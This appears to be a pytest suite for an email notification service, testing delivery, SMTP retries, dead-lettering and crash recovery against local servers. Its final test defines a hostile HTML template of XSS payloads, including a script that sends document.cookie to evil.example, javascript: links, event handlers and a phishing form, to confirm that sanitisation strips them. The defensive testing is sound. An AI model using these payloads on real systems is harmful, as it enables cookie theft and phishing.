"""Email end to end: real aiosmtpd servers on 127.0.0.1, a real SQLite ledger.

What the SMTP server received is the truth these tests check: the right people,
the right number of times, with faults on the far side retried or
dead-lettered as the delivery contract says.
"""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path

from flytenotify import Email, PagerDuty, Slack
from flytenotify import WorkflowExecutionPhase as P
from flytenotify.app import Notifier
from flytenotify.config import DatabaseConfig, GroupingConfig, RetryConfig, Settings, SmtpConfig
from flytenotify.domain import DeliveryStatus, EntityId
from flytenotify.store.base import DeliveryFilter
from tests.dispatch_child import settings as child_settings
from tests.helpers import PLAN, HtmlMarkup, event_json, execution
from tests.servers.smtp import SmtpServer, smtp_servers_fixture

__all__ = ["smtp_servers_fixture"]  # the fixture is used by name

FAST_RETRY = RetryConfig(base_delay=0.05, max_delay=0.2, max_attempts=5, lease=5.0)
NO_GROUPING = GroupingConfig(by=[])


def make_settings(database_url: str, smtp: SmtpConfig, retry: RetryConfig = FAST_RETRY) -> Settings:
    # One email per execution is what these tests count: grouping off.
    return Settings(
        database=DatabaseConfig(url=database_url), smtp=smtp, retry=retry, grouping=NO_GROUPING
    )


async def test_product_document_examples_reach_the_right_inboxes(
    database_url: str, smtp_servers: Callable[..., SmtpServer]
) -> None:
    server = smtp_servers()
    async with Notifier(make_settings(database_url, server.smtp_config())) as n:
        await n.register_launch_plan(
            PLAN,
            [
                Email([P.SUCCEEDED], ["team-leads@example.com"]),
                Email([P.FAILED, P.SUCCEEDED], ["dev-ops@example.com", "on-call@example.com"]),
                Slack([P.FAILED], ["#data-alerts", "john.doe@example.com"]),
                PagerDuty([P.TIMED_OUT], ["pagerduty-service-email@example.com"]),
            ],
        )
        for name, phase in [("ok", "SUCCEEDED"), ("bad", "FAILED"), ("slow", "TIMED_OUT")]:
            await n.create_execution(execution(name), PLAN)
            await n.report_event(event_json(name, phase, error="disk full"))
        await n.run_until_idle()
        received = sorted((m.recipient, m.message["Subject"]) for m in server.messages)
        assert received == [
            ("dev-ops@example.com", "Flyte execution proj/prod/bad failed"),
            ("dev-ops@example.com", "Flyte execution proj/prod/ok succeeded"),
            ("john.doe@example.com", "Flyte execution proj/prod/bad failed"),
            ("on-call@example.com", "Flyte execution proj/prod/bad failed"),
            ("on-call@example.com", "Flyte execution proj/prod/ok succeeded"),
            ("pagerduty-service-email@example.com", "Flyte execution proj/prod/slow timed out"),
            ("team-leads@example.com", "Flyte execution proj/prod/ok succeeded"),
        ]
        # "#data-alerts" cannot be emailed and no Slack API is configured: it is
        # dead-lettered with the reason instead of vanishing.
        (dead,) = await n.deliveries(DeliveryFilter(status=DeliveryStatus.DEAD))
        assert dead.recipient == "#data-alerts"
        assert "no slack API configuration" in dead.last_reply
        failed = server.to("john.doe@example.com")[0].message
        assert "disk full" in failed.get_body(("plain",)).get_content()  # type: ignore[union-attr]


async def test_server_down_then_up_is_delivered_after_retries(
    database_url: str, smtp_servers: Callable[..., SmtpServer]
) -> None:
    server = smtp_servers(start=False)
    async with Notifier(make_settings(database_url, server.smtp_config())) as n:
        await n.create_execution(execution("e"), notifications=[Email([P.FAILED], ["a@x.io"])])
        await n.report_event(event_json("e", "FAILED"))
        await n.run_until_idle()  # one failed attempt, now waiting to retry
        (waiting,) = await n.deliveries()
        assert waiting.status is DeliveryStatus.RETRYING
        assert "Connection refused" in waiting.last_reply or "refused" in waiting.last_reply.lower()
        server.start()
        await n.run_until_idle(include_retries=True, max_wait=20)
        (done,) = await n.deliveries()
        assert done.status is DeliveryStatus.DELIVERED
        outcomes = [a.outcome for a in await n.attempts(done.id)]
        assert outcomes[-1] == "delivered"
        assert set(outcomes[:-1]) == {"transient"}
        assert len(server.to("a@x.io")) == 1


async def test_450_is_retried_and_550_is_dead_at_once(
    database_url: str, smtp_servers: Callable[..., SmtpServer]
) -> None:
    server = smtp_servers()
    server.script("RCPT", "450 4.2.1 mailbox busy", address="busy@x.io", times=1)
    no_such_user = server.script("RCPT", "550 5.1.1 no such user", address="gone@x.io")
    async with Notifier(make_settings(database_url, server.smtp_config())) as n:
        recipients = ["busy@x.io", "gone@x.io", "fine@x.io"]
        await n.create_execution(execution("e"), notifications=[Email([P.FAILED], recipients)])
        await n.report_event(event_json("e", "FAILED"))
        await n.run_until_idle(include_retries=True, max_wait=20)
        by_recipient = {d.recipient: d for d in await n.deliveries()}
        assert by_recipient["fine@x.io"].status is DeliveryStatus.DELIVERED
        assert by_recipient["fine@x.io"].attempts == 1
        busy = by_recipient["busy@x.io"]
        assert (busy.status, busy.attempts) == (DeliveryStatus.DELIVERED, 2)
        assert [a.outcome for a in await n.attempts(busy.id)] == ["transient", "delivered"]
        gone = by_recipient["gone@x.io"]
        assert (gone.status, gone.attempts) == (DeliveryStatus.DEAD, 1)
        assert "550" in gone.last_reply
        assert "no such user" in gone.last_reply
        assert sorted(m.recipient for m in server.messages) == ["busy@x.io", "fine@x.io"]

        # An operator fixes the mailbox and re-drives the dead letter.
        no_such_user.times = 0
        assert (await n.redrive(gone.id)) is not None
        await n.run_until_idle()
        assert (await n.delivery(gone.id)).status is DeliveryStatus.DELIVERED  # type: ignore[union-attr]
        assert [a.outcome for a in await n.attempts(gone.id)] == [
            "permanent",
            "redrive",
            "delivered",
        ]


async def test_persistent_transient_failure_dead_letters_after_max_attempts(
    database_url: str, smtp_servers: Callable[..., SmtpServer]
) -> None:
    server = smtp_servers()
    server.script("RCPT", "451 4.3.0 try later")
    retry = RetryConfig(base_delay=0.01, max_delay=0.02, max_attempts=3, lease=5.0)
    async with Notifier(make_settings(database_url, server.smtp_config(), retry)) as n:
        await n.create_execution(execution("e"), notifications=[Email([P.ABORTED], ["a@x.io"])])
        await n.report_event(event_json("e", "ABORTED"))
        await n.run_until_idle(include_retries=True, max_wait=20)
        (dead,) = await n.deliveries()
        assert (dead.status, dead.attempts) == (DeliveryStatus.DEAD, 3)
        assert "451" in dead.last_reply
        assert "gave up after 3 attempts" in dead.last_reply
        assert server.messages == []


async def test_restart_delivers_what_a_previous_run_left(
    database_url: str, smtp_servers: Callable[..., SmtpServer]
) -> None:
    server = smtp_servers()
    settings = make_settings(database_url, server.smtp_config())
    async with Notifier(settings) as n:
        plan = EntityId("proj", "prod", "lp", "v1")
        await n.register_launch_plan(plan, [Email([P.FAILED], ["ops@x.io"])])
        await n.report_events([event_json(f"r{i}", "FAILED", launch_plan=plan) for i in range(20)])
    assert server.messages == []  # enqueued, never dispatched, process "stopped"
    async with Notifier(settings) as n:
        await n.run_until_idle()
    assert len(server.to("ops@x.io")) == 20


def test_sigkill_mid_batch_loses_nothing(
    database_url: str, smtp_servers: Callable[..., SmtpServer]
) -> None:
    total = 600
    server = smtp_servers()
    server.script("DATA", delay=0.004)  # slow enough that the kill lands mid-batch
    db = database_url

    async def enqueue() -> None:
        async with Notifier(child_settings(db, server.port)) as n:
            plan = EntityId("proj", "prod", "lp", "v1")
            await n.register_launch_plan(plan, [Email([P.FAILED], ["ops@x.io"])])
            events = [event_json(f"run-{i:04d}", "FAILED", launch_plan=plan) for i in range(total)]
            await n.report_events(events)

    asyncio.run(enqueue())
    child = [sys.executable, "-m", "tests.dispatch_child", db, str(server.port)]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parent.parent)}
    first = subprocess.Popen(child, env=env, cwd=Path(__file__).parent.parent)
    try:
        deadline = time.monotonic() + 60
        while len(server.messages) < total // 4:
            assert first.poll() is None, "the dispatcher finished before it could be killed"
            assert time.monotonic() < deadline, "the dispatcher made no progress"
            time.sleep(0.01)
    finally:
        os.kill(first.pid, signal.SIGKILL)
        first.wait(timeout=10)
    at_kill = len(server.messages)
    assert at_kill < total, "the kill came too late to test anything"

    second = subprocess.run(child, env=env, cwd=Path(__file__).parent.parent, timeout=120)
    assert second.returncode == 0

    arrivals = Counter(m.message["Subject"] for m in server.messages)
    assert len(arrivals) == total, f"lost {total - len(arrivals)} deliveries"
    duplicates = sum(count - 1 for count in arrivals.values())
    print(f"\nSIGKILL after {at_kill}/{total} messages: {duplicates} arrived twice")
    # Only rows in flight at the kill (at most the child's concurrency, 8) may repeat.
    assert duplicates <= 8
    message_ids = Counter(m.message["Message-ID"] for m in server.messages)
    assert len(message_ids) == total  # a repeat carries the same Message-ID: droppable


# A template anyone who can register a launch plan can write, sent from the company's sender.
HOSTILE_TEMPLATE = """<p>Run <b>{{ name }}</b> {{ phase }}.</p>
<script>fetch("https://evil.example/?c=" + document.cookie)</script>
<a href="javascript:alert(document.cookie)">details</a>
<a href="JaVaScRiPt:alert(1)">a</a> <a href="java&#09;script:alert(1)">b</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">c</a>
<a href="vbscript:msgbox(1)">d</a> <a href="//evil.example/x">e</a>
<img src="https://flyte.example.com/logo.png" onerror="alert(1)" alt="logo">
<div onclick="steal()" onmouseover="steal()">hover</div>
<svg onload="alert(1)"></svg><iframe src="https://evil.example"></iframe>
<form action="https://evil.example/login"><input name="password"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
<style>body { background: url(https://evil.example/track.png) }</style>
<a href="https://flyte.example.com/runs/{{ name }}">open the run</a>
<a href="mailto:oncall@example.com">mail the on-call</a>
<a href="{{ error.uri }}">the log</a>"""


async def test_an_html_template_is_sanitised_before_it_leaves(
    database_url: str, smtp_servers: Callable[..., SmtpServer]
) -> None:
    server = smtp_servers()
    async with Notifier(make_settings(database_url, server.smtp_config())) as n:
        await n.create_execution(
            execution("e1"),
            notifications=[Email([P.FAILED], ["ops@example.com"], template=HOSTILE_TEMPLATE)],
        )
        event = event_json("e1", "FAILED", error="boom")
        event["error"]["errorUri"] = "javascript:alert(1)"  # values are the execution's
        await n.report_event(event)
        await n.run_until_idle()
        (delivery,) = await n.deliveries()
        assert delivery.status is DeliveryStatus.DELIVERED, delivery.last_reply
    (received,) = server.messages
    part = received.message.get_body(("html",))
    assert part is not None
    document = part.get_content().replace("\r\n", "\n")
    body = document.split("<body>\n", 1)[1].rsplit("\n</body>", 1)[0]
    markup = HtmlMarkup(body)

    assert set(markup.tags) <= {"div", "p", "b", "a", "img"}, markup.tags
    assert not [name for name, _ in markup.attributes if name.startswith("on")]
    urls = [value for name, value in markup.attributes if name in ("href", "src")]
    assert urls == [
        "https://flyte.example.com/logo.png",
        "https://flyte.example.com/runs/e1",
        "mailto:oncall@example.com",
    ]
    for gone in ("script", "javascript", "evil.example", "document.cookie", "vbscript", "data:"):
        assert gone not in body.lower(), gone
    assert "Run <b>e1</b> failed." in body
    assert ">open the run</a>" in body  # a link that went is still a link
    assert ">details</a>" in body  # and one whose URL went keeps its words

    # The text part is the template as FlyteAdmin renders it: substituted, not rewritten.
    text = received.message.get_body(("plain",))
    assert text is not None
    assert '<a href="https://flyte.example.com/runs/e1">open the run</a>' in text.get_content()
